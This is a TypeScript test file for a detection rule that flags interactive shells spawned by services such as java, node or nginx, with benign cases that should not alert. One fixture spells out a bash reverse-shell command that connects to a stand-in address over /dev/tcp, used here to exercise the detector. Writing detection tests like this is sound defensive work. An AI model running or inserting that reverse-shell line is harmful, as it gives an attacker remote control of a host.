import assert from 'node:assert/strict';
import rule from '../../../models/rules/shell-spawned/rule.ts';
import { assertRuleShape, exec, none, one, testEngine } from '../../support/events.ts';

const engine = () => testEngine({ rules: [rule] });

describe('rules/shell-spawned', () => {
  it('shape', () => {
    assertRuleShape(rule, 'shell-spawned');
    assert.equal(rule.novelty, false);
    assert.equal(rule.severity, 'high');
    assert.equal(rule.mitre.technique, 'T1059.004');
  });

  it('an interactive shell started by a service alerts', () => {
    const cases: { exe: string; args: string[]; parent: string }[] = [
      { exe: '/bin/sh', args: ['sh'], parent: '/usr/bin/python3' },
      { exe: '/bin/bash', args: ['bash', '-i'], parent: '/usr/local/bin/node' },
      { exe: '/bin/bash', args: ['bash', '-i', '-c', 'x'], parent: '/usr/bin/java' },
      { exe: '/bin/dash', args: ['dash', '-s'], parent: '/usr/sbin/nginx' },
      { exe: '/bin/busybox', args: ['busybox', 'sh'], parent: '/app/server' },
    ];
    for (const c of cases) {
      const a = one(engine(), exec(c.exe, { args: c.args, parents: [c.parent] }));
      assert.equal(a.rule, 'shell-spawned');
      assert.equal(a.severity, 'high');
      assert.match(a.summary, new RegExp(`started by ${c.parent}`));
    }
  });

  it('the classic reverse shell: bash -i inside `sh -c` started by the service', () => {
    const a = one(
      engine(),
      exec('/bin/bash', {
        args: ['bash', '-i'],
        ancestors: [{ exe: '/bin/sh', args: ['sh', '-c', 'bash -i >& /dev/tcp/127.66.6.6/4444 0>&1'] }, { exe: '/usr/bin/java' }],
      }),
    );
    assert.match(a.summary, /\/usr\/bin\/java/);
    assert.equal(a.dedupKey, 'shell-spawned|shop/Deployment/web#app|java>bash');
  });

  it('no alert for `sh -c` or scripts from an app, even while learning', () => {
    const e = engine();
    none(e, exec('/bin/sh', { args: ['sh', '-c', 'date'], parents: ['/usr/bin/python3'] }));
    none(e, exec('/bin/bash', { args: ['bash', '-ec', 'x'], parents: ['/usr/bin/node'] }));
    none(e, exec('/bin/sh', { args: ['sh', '/app/hook.sh'], parents: ['/usr/bin/app'] }));
    none(e, exec('/bin/bash', { args: ['bash', '-x', 'deploy.sh'], parents: ['/usr/bin/app'] }));
  });

  it('no alert for shells from runtimes, init, shells, or with an unknown parent', () => {
    const e = engine();
    for (const parent of ['/usr/bin/containerd-shim-runc-v2', '/usr/bin/runc', '/sbin/tini', '/usr/sbin/sshd', '/bin/bash', '/usr/sbin/cron', '/usr/bin/env']) {
      none(e, exec('/bin/bash', { args: ['bash'], parents: [parent] }));
    }
    none(e, exec('/bin/sh', { args: ['sh'], ancestors: [] }));
    // a shell chain with no service above it (kubectl exec → sh -c → bash -i)
    none(e, exec('/bin/bash', { args: ['bash', '-i'], ancestors: [{ exe: '/bin/sh' }, { exe: '/usr/bin/runc' }] }));
    none(e, exec('/bin/bash', { args: ['bash', '-i'], ancestors: [{ exe: '/bin/sh' }] }));
  });

  it('no alert for non-shells or busybox applets', () => {
    const e = engine();
    none(e, exec('/usr/bin/python3', { args: ['python3'], parents: ['/usr/bin/app'] }));
    none(e, exec('/bin/busybox', { args: ['busybox', 'ls'], parents: ['/usr/bin/app'] }));
    none(e, exec('/usr/bin/fish-food', { args: ['fish-food'], parents: ['/usr/bin/app'] }));
  });
});
